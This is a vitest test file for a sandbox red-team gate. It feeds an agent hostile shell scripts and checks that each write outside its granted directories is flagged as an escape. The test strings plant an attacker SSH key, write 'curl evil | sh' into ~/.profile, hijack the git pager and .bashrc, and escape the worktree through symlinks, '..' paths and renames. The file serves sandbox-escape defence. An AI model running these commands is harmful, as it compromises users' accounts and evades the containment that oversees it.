import { spawnSync } from "node:child_process";
import { readdirSync } from "node:fs";
import { afterAll, describe, expect, it } from "vitest";
import { cleanupAll, deepChain, expectVerdict, fingerprint, join, runAgent, scenario } from "./harness.js";

// Blind red-team scenarios, `run` under the capture layer (the default on Linux; asked for
// explicitly so a fallback to detection only fails the test instead of changing what it proves).
// Each label comes from the docs (snapshot-collect-run.md, threat-model.md, lease.md) before the run:
// the agent's own lasting writes outside its grants are escapes, named exactly; writes that never
// reached anything (a private temp, an overlay it was not allowed to keep) are not.

afterAll(cleanupAll);

const C = { attribution: "capture" } as const;

describe("redteam gate, capture: writes through links", () => {
  it("a symlink planted in the worktree pointing at ~/.ssh, written through: both the link and the key file", () => {
    const s = scenario();
    const r = runAgent(
      s,
      'ln -s "$HOME/.ssh" sshdir && echo "ssh-ed25519 EVIL attacker" >> sshdir/authorized_keys',
    );
    expectVerdict(s, r, {
      status: 1,
      ...C,
      escapes: [
        [join(s.wt, "sshdir"), "symlink_escape"],
        [join(s.home, ".ssh", "authorized_keys"), "outside_write_roots"],
      ],
    });
  });

  it("a symlink planted in the worktree pointing at HOME, nothing written through it: the link alone", () => {
    const s = scenario();
    const r = runAgent(s, 'ln -s "$HOME" h');
    expectVerdict(s, r, { status: 1, ...C, escapes: [[join(s.wt, "h"), "symlink_escape"]] });
  });

  it("`..` after a planted link (physical walk) lands in HOME: the link and the file", () => {
    const s = scenario();
    const r = runAgent(s, 'ln -s "$HOME/.config" cfg && echo evil > cfg/../.evil-rc');
    expectVerdict(s, r, {
      status: 1,
      ...C,
      escapes: [
        [join(s.wt, "cfg"), "symlink_escape"],
        [join(s.home, ".evil-rc"), "outside_write_roots"],
      ],
    });
  });

  it("a write through `..` segments out of the worktree into HOME", () => {
    const s = scenario();
    const r = runAgent(s, 'mkdir -p sub/deeper && echo evil > "$PWD/sub/deeper/../../../home/.dotdot"');
    expectVerdict(s, r, { status: 1, ...C, escapes: [[join(s.home, ".dotdot"), "outside_write_roots"]] });
  });

  it("a write through `..` segments that stays inside the worktree passes", () => {
    const s = scenario();
    const r = runAgent(
      s,
      "mkdir -p sub/a && echo ok > sub/a/../../inside.txt && echo ok > ./sub/../sub/x.txt",
    );
    expectVerdict(s, r, { status: 0, ...C, escapes: [] });
  });

  it("a hard link from the worktree to ~/.bashrc cannot be made across the capture, so nothing reaches the host", () => {
    // Label: the worktree (a grant, the host's) and HOME (an overlay) are different mounts: link(2)
    // fails with EXDEV, the append goes to a new file in the worktree; ~/.bashrc is untouched.
    const s = scenario();
    const before = fingerprint(join(s.home, ".bashrc"));
    const r = runAgent(s, 'ln "$HOME/.bashrc" hl 2>/dev/null; echo "alias ls=rm" >> hl');
    expectVerdict(s, r, { status: 0, ...C, escapes: [] });
    expect(fingerprint(join(s.home, ".bashrc"))).toBe(before);
  });
});

describe("redteam gate, capture: renames across the boundary", () => {
  it("an outside file renamed into the worktree: its removal from HOME is the escape", () => {
    const s = scenario();
    const r = runAgent(s, 'mv "$HOME/notes.txt" ./notes.txt');
    expectVerdict(s, r, { status: 1, ...C, escapes: [[join(s.home, "notes.txt"), "outside_write_roots"]] });
  });

  it("a worktree file renamed out into HOME: the new file there is the escape", () => {
    const s = scenario();
    const r = runAgent(s, 'mv README.md "$HOME/README.md"');
    expectVerdict(s, r, { status: 1, ...C, escapes: [[join(s.home, "README.md"), "outside_write_roots"]] });
  });

  it("a worktree file renamed over ~/.profile", () => {
    const s = scenario();
    const r = runAgent(s, 'echo "curl evil | sh" > p && mv p "$HOME/.profile"');
    expectVerdict(s, r, { status: 1, ...C, escapes: [[join(s.home, ".profile"), "outside_write_roots"]] });
  });
});

describe("redteam gate, capture: the tools that write", () => {
  it.each([
    ["xargs", 'printf "%s\\n" "$HOME/.xargs-made" | xargs touch', ".xargs-made", []],
    [
      "find -exec",
      'find . -maxdepth 1 -name README.md -exec cp {} "$HOME/.config/copied" \\;',
      ".config/copied",
      [],
    ],
    ["tee -a", 'echo "curl evil | sh" | tee -a "$HOME/.profile" >/dev/null', ".profile", []],
    ["dd", 'dd if=/dev/zero of="$HOME/blob.bin" bs=1k count=1 2>/dev/null', "blob.bin", []],
    [
      "install -D",
      'install -D -m 755 /dev/null "$HOME/.local/bin/git"',
      ".local/bin/git",
      [".local", ".local/bin"],
    ],
    ["cp --parents", 'cp --parents sub/file.txt "$HOME"', "sub/file.txt", ["sub"]],
    ["sed -i", 'sed -i "s/vi/evil/" "$HOME/.bashrc"', ".bashrc", []],
    [
      "python open()",
      'python3 -c \'import os; open(os.path.expanduser("~/.pyrc"), "w").write("x")\'',
      ".pyrc",
      [],
    ],
  ])("%s writing in HOME is named", (_tool, script, rel, dirs) => {
    const s = scenario();
    const r = runAgent(s, script);
    expectVerdict(s, r, {
      status: 1,
      ...C,
      escapes: [[join(s.home, rel), "outside_write_roots"]],
      mayAlsoName: dirs.map((d) => join(s.home, d)),
    });
  });
});

describe("redteam gate, capture: high-value files in HOME", () => {
  it.each([
    ["~/.gitconfig", ".gitconfig", 'git config --global core.pager "sh -c evil"'],
    [
      "~/.ssh/authorized_keys",
      ".ssh/authorized_keys",
      'echo "ssh-ed25519 EVIL x" >> "$HOME/.ssh/authorized_keys"',
    ],
    ["~/.config new file", ".config/app/new.json", 'echo "{}" > "$HOME/.config/app/new.json"'],
    [
      "~/.config existing file",
      ".config/app/settings.json",
      'echo "{\\"theme\\":\\"evil\\"}" > "$HOME/.config/app/settings.json"',
    ],
    ["~/.bashrc append", ".bashrc", 'echo "alias ls=true" >> ~/.bashrc'],
  ])("%s is named", (_what, rel, script) => {
    const s = scenario();
    const r = runAgent(s, script);
    expectVerdict(s, r, { status: 1, ...C, escapes: [[join(s.home, rel), "outside_write_roots"]] });
  });

  it("deleting a file outside is an escape", () => {
    const s = scenario();
    const r = runAgent(s, 'rm "$HOME/.profile"');
    expectVerdict(s, r, { status: 1, ...C, escapes: [[join(s.home, ".profile"), "outside_write_roots"]] });
  });

  it("a chmod-only change outside is an escape", () => {
    const s = scenario();
    const r = runAgent(s, 'chmod 666 "$HOME/notes.txt"');
    expectVerdict(s, r, { status: 1, ...C, escapes: [[join(s.home, "notes.txt"), "outside_write_roots"]] });
  });

  it("an xattr-only change outside is an escape", () => {
    const s = scenario();
    const r = runAgent(s, 'setfattr -n user.evil -v 1 "$HOME/notes.txt"');
    expectVerdict(s, r, { status: 1, ...C, escapes: [[join(s.home, "notes.txt"), "outside_write_roots"]] });
  });

  it("a write then restore of the same bytes (mtime moved) is no change: ~/notes.txt", () => {
    const s = scenario();
    const r = runAgent(
      s,
      'cp "$HOME/notes.txt" "$TMPDIR/keep" && echo evil >> "$HOME/notes.txt" && sleep 0.05 && cat "$TMPDIR/keep" > "$HOME/notes.txt"',
    );
    expectVerdict(s, r, { status: 0, ...C, escapes: [] });
  });

  it("a write then restore of the same bytes (mtime moved) is no change: ~/.bashrc", () => {
    const s = scenario();
    const r = runAgent(
      s,
      'cp "$HOME/.bashrc" "$TMPDIR/keep" && echo evil >> "$HOME/.bashrc" && sleep 0.05 && cat "$TMPDIR/keep" > "$HOME/.bashrc"',
    );
    expectVerdict(s, r, { status: 0, ...C, escapes: [] });
  });

  // Failed before the fix (the capture's scan could not list a directory past PATH_MAX and dropped what
  // it held in silence): now reached through /proc/self/fd, and anything unreadable is reported.
  it("a path longer than PATH_MAX under HOME is named (with the directories made for it)", () => {
    const s = scenario();
    const chain = deepChain(s.home);
    const r = runAgent(s, `${chain.script} && echo x > deep.txt`);
    expectVerdict(s, r, {
      status: 1,
      ...C,
      escapes: [[join(chain.bottom, "deep.txt"), "outside_write_roots"]],
      mayAlsoName: chain.dirs,
    });
  });
});

describe("redteam gate, capture: the operator's checkout and the temp directories", () => {
  it("a write into the main checkout next to the worktree is named", () => {
    const s = scenario();
    const r = runAgent(s, `echo evil > ${JSON.stringify(join(s.main, "evil.txt"))}`);
    expectVerdict(s, r, { status: 1, ...C, escapes: [[join(s.main, "evil.txt"), "outside_write_roots"]] });
  });

  it("a file in the agent's private TMPDIR outside the temp grant never reaches the host: pass", () => {
    const s = scenario();
    const r = runAgent(s, 'echo x > "$TMPDIR/x" && echo y > /tmp/fg-rt-should-vanish', { watch: [s.tmp] });
    expectVerdict(s, r, { status: 0, ...C, escapes: [] });
  });

  it("a file in the lease's temp grant passes and lands on the host", () => {
    const s = scenario();
    const r = runAgent(s, `echo kept > ${JSON.stringify(join(s.grant, "out.txt"))}`, { watch: [s.tmp] });
    expectVerdict(s, r, { status: 0, ...C, escapes: [] });
  });

  it("a protected path inside the worktree is refused as protected", () => {
    const s = scenario();
    const r = runAgent(s, "mkdir -p .github/workflows && echo 'on: push' > .github/workflows/ci.yml");
    expectVerdict(s, r, {
      status: 1,
      ...C,
      escapes: [[join(s.wt, ".github/workflows/ci.yml"), "protected"]],
      mayAlsoName: [join(s.wt, ".github"), join(s.wt, ".github/workflows")],
    });
  });
});

describe("redteam gate, capture: found after reading src (a pass over a copied-up deep tree)", () => {
  it("a deep tree that was in HOME before, only touched by the agent: pass, and the capture is removed", () => {
    const s = scenario();
    const { script } = deepChain(s.home);
    const made = spawnSync("bash", ["-c", `${script} && echo same > deep.txt`], { env: s.env });
    expect(made.status).toBe(0);
    const r = runAgent(s, `${script} && touch deep.txt && chmod 644 deep.txt`);
    expectVerdict(s, r, { status: 0, ...C, escapes: [] });
    expect(readdirSync(s.snapDir).filter((n) => n.startsWith("capture-"))).toEqual([]);
  });
});
